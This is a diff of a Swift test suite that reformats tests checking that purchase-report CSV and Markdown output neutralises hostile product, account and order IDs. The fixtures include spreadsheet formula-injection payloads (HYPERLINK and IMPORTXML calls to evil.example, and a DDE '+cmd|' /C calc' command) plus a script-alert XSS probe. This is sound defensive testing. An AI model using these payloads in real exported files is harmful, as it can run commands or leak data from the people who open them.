@@ -10,7 +10,8 @@ import Testing
 /// who controls a product name, an account ID or an order ID would send them.
 @Suite struct InjectionTests {
     static let hostileProducts = [
-        "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned",
+        "=HYPERLINK(\"http://evil.example\",\"x\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTabbed",
+        "\rReturned",
         "pipe|in|id", "<script>alert(1)</script>", "line\nbreak # Heading", "[link](http://evil.example)", "`code`",
     ]
     static let hostileAccount = "=IMPORTXML(\"http://evil.example\",\"//a\")|acct"
@@ -24,24 +25,35 @@ import Testing
         for (index, product) in hostileProducts.enumerated() {
             let purchase = 1_696_161_600_000 + Int64(index) * 3_600_000  // 2023-10-01T12:00Z + index hours
             let transaction = app.transaction(
-                id: "inj-\(index)", product: product, type: "Consumable", purchase: purchase, price: 4_990, signedDate: purchase,
+                id: "inj-\(index)", product: product, type: "Consumable", purchase: purchase, price: 4_990,
+                signedDate: purchase,
                 extra: ["appAccountToken": .string(token)])
-            lines.append(try app.notification(type: "ONE_TIME_CHARGE", uuid: "inj-buy-\(index)", signedDate: purchase, transaction: transaction))
-            let revoked = transaction.setting("revocationDate", .int(purchase + 86_400_000)).setting("signedDate", .int(purchase + 86_400_000))
-            lines.append(try app.notification(type: "REFUND", uuid: "inj-refund-\(index)", signedDate: purchase + 86_400_000, transaction: revoked))
+            lines.append(
+                try app.notification(
+                    type: "ONE_TIME_CHARGE", uuid: "inj-buy-\(index)", signedDate: purchase, transaction: transaction))
+            let revoked = transaction.setting("revocationDate", .int(purchase + 86_400_000)).setting(
+                "signedDate", .int(purchase + 86_400_000))
+            lines.append(
+                try app.notification(
+                    type: "REFUND", uuid: "inj-refund-\(index)", signedDate: purchase + 86_400_000, transaction: revoked
+                ))
             refunded.append(revoked)
         }
         try archive.write("notifications.jsonl", lines: lines)
-        try archive.write("lookups.jsonl", lines: [try app.orderLookup(orderId: hostileOrder, Array(refunded.prefix(2)))])
+        try archive.write(
+            "lookups.jsonl", lines: [try app.orderLookup(orderId: hostileOrder, Array(refunded.prefix(2)))])
         let quoted = "\"" + hostileAccount.replacingOccurrences(of: "\"", with: "\"\"") + "\""
-        try Data("app_account_token,account_id\n\(token),\(quoted)\n".utf8).write(to: URL(fileURLWithPath: archive.root + "/accounts.csv"))
+        try Data("app_account_token,account_id\n\(token),\(quoted)\n".utf8).write(
+            to: URL(fileURLWithPath: archive.root + "/accounts.csv"))
         return app
     }
 
     @Test func csvCellsAreNeutralisedAndMarkdownIsEscaped() throws {
         let archive = try TestArchive()
         let app = try Self.write(archive)
-        _ = try Pipeline(configuration: try archive.configuration(app) { $0.accountsPath = archive.root + "/accounts.csv" }).run()
+        _ = try Pipeline(
+            configuration: try archive.configuration(app) { $0.accountsPath = archive.root + "/accounts.csv" }
+        ).run()
         let files = Tree.files(archive.reports)
         let triggers: Set<Character> = ["=", "+", "-", "@", "\t", "\r"]
         var seenProducts: Set<String> = []
@@ -51,7 +63,9 @@ import Testing
             for row in CSVReader.parse(String(decoding: bytes, as: UTF8.self)).dropFirst() {
                 for cell in row {
                     if cell.first.map(triggers.contains) == true {
-                        #expect(Int(cell) != nil, "\(path): cell \(cell.debugDescription) would be evaluated by a spreadsheet")
+                        #expect(
+                            Int(cell) != nil,
+                            "\(path): cell \(cell.debugDescription) would be evaluated by a spreadsheet")
                     }
                     if cell.hasPrefix("'") { seenProducts.insert(String(cell.dropFirst())) }
                     if cell == "'" + Self.hostileAccount { seenAccount = true }
@@ -60,7 +74,9 @@ import Testing
             }
         }
         for product in Self.hostileProducts where product.first.map(triggers.contains) == true {
-            #expect(seenProducts.contains(product), "\(product.debugDescription) should appear neutralised as '\(product.debugDescription)")
+            #expect(
+                seenProducts.contains(product),
+                "\(product.debugDescription) should appear neutralised as '\(product.debugDescription)")
         }
         #expect(seenAccount, "the flagged account's hostile ID should appear neutralised")
         #expect(seenOrder, "the hostile order ID should appear neutralised")
@@ -76,14 +92,17 @@ import Testing
                 guard line.hasPrefix("|") else { columns = nil; continue }
                 let cells = Self.unescapedPipes(line)
                 if let columns {
-                    #expect(cells == columns, "\(path): a table row with \(cells) separators instead of \(columns): \(line)")
+                    #expect(
+                        cells == columns, "\(path): a table row with \(cells) separators instead of \(columns): \(line)"
+                    )
                 } else {
                     columns = cells
                 }
             }
         }
         // The hostile values are really in the Markdown (escaped), so the checks above had something to check.
-        let markdown = files.filter { $0.key.hasSuffix("report.md") }.map { String(decoding: $0.value, as: UTF8.self) }.joined()
+        let markdown = files.filter { $0.key.hasSuffix("report.md") }.map { String(decoding: $0.value, as: UTF8.self) }
+            .joined()
         #expect(markdown.contains("pipe\\|in\\|id"), "product IDs with | should be in report.md, escaped")
         _ = app
     }
